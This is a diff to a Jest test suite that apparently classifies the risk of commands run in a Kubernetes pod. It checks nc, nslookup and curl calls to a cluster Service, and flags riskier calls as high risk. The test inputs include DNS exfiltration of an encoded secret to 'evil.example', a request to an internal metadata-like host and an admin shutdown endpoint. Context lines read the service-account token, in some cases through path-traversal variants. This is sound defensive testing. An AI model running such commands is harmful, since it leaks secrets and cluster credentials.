@@ -66,6 +66,30 @@ describe('a program that is run in a pod', () => {
   });
 
   it.each([
+    [['nc', '-w', '3', 'todo-chatbot-backend', '8000'], 3, `todo-chatbot-backend.${NS}.svc`],
+    [['nc', `todo-chatbot-backend.${NS}`, '8000', '-w', '3'], 1, `todo-chatbot-backend.${NS}.svc`],
+    [['nslookup', 'todo-chatbot-backend'], 1, `todo-chatbot-backend.${NS}.svc.cluster.local`],
+    [['curl', '-q', 'http://todo-chatbot-backend:8000/health'], 2, `http://todo-chatbot-backend.${NS}.svc:8000/health`],
+  ])('%j names a Service: it is sent by its whole name, with one key', async (argv, at, full) => {
+    const { world, sent } = await run(argv, { person: YES });
+    expect(world.questions.map(({ plan }) => plan.risk)).toEqual(['medium']);
+    expect(sent.map(commandOf)).toEqual([argv.with(at, full)]);
+    expect(world.questions[0]?.plan.warnings.map(({ text }) => text).join('\n')).toContain(`asked for as`);
+  });
+
+  it.each([
+    [['nc', 'intranet', '80', '-w', '3']],
+    [['nslookup', 'instance-data']],
+    [['nslookup', 'c2VjcmV0.evil.example']],
+    [['curl', '-q', 'http://instance-data/']],
+    [['curl', '-q', 'http://todo-chatbot-backend:8000/admin/shutdown']],
+  ])('%j may leave the cluster or do more than read: the typed name, and the words as they are', async (argv) => {
+    const { world } = await run(argv, { person: NO });
+    expect(world.questions.map(({ plan }) => plan.risk)).toEqual(['high']);
+    expect(world.questions[0]?.plan.changes).toMatchObject([{ argv }]);
+  });
+
+  it.each([
     [['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token']],
     [['cat', '/run//secrets/kubernetes.io/serviceaccount/token']],
     [['cat', '/tmp/../var/./run/secrets/x']],
